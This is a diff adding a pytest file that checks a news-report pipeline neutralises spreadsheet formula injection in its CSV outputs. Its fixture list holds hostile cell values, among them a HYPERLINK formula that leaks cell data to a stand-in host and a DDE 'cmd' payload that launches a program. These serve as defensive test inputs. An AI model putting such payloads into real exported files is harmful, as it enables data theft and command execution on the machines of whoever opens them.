@@ -1,0 +1,48 @@
+"""One-way data flow (issue 11): the analysis writes the tables and the CSVs, notebooks only read them.
+
+A report run over scraped text whose headlines look like spreadsheet formulas must leave every CSV of the
+report folder neutralised: no notebook may rewrite a CSV without the formula-safe writer.
+"""
+from __future__ import annotations
+
+import csv
+
+import pytest
+
+from marsad.runner.report import run_report
+
+pytestmark = pytest.mark.slow
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"انقر هنا")', "+روسيا وكوريا الشمالية توقعان اتفاقية",
+            "@SUM(1+1) فيتنام وروسيا", "-cmd|' /C calc'!A0"]
+
+
+@pytest.fixture(scope="module")
+def report(tmp_path_factory):
+    corpus = tmp_path_factory.mktemp("formula_corpus")
+    with open(corpus / "news.csv", "w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["title", "text", "date", "source"])
+        for i, title in enumerate(PAYLOADS):
+            writer.writerow([title, f"{title}. وقع الرئيس الروسي فلاديمير بوتين والزعيم الكوري الشمالي كيم جونغ أون "
+                                    f"معاهدة شراكة في بيونغ يانغ يوم الأربعاء.", f"2024-06-{19 + i}", "=cmd"])
+    return run_report(corpus, "formulas", reports_dir=tmp_path_factory.mktemp("reports"), jobs=2)
+
+
+def test_the_report_ran(report):
+    assert report.ok, [(nb.notebook, nb.error) for nb in report.notebooks if not nb.ok]
+
+
+def test_every_csv_of_the_report_folder_stays_neutralised(report):
+    csvs = sorted(report.out_dir.glob("*.csv"))
+    assert {"documents.csv", "headlines.csv", "mentions.csv", "events.csv"} <= {p.name for p in csvs}
+    seen = 0
+    for path in csvs:
+        with open(path, encoding="utf-8", newline="") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    for payload in PAYLOADS + ["=cmd"]:
+                        if payload in cell:
+                            seen += 1
+                            assert not cell.startswith(("=", "+", "@", "-", "\t", "\r")), (path.name, cell)
+    assert seen >= len(PAYLOADS)  # the payloads did reach the CSVs, as quoted text
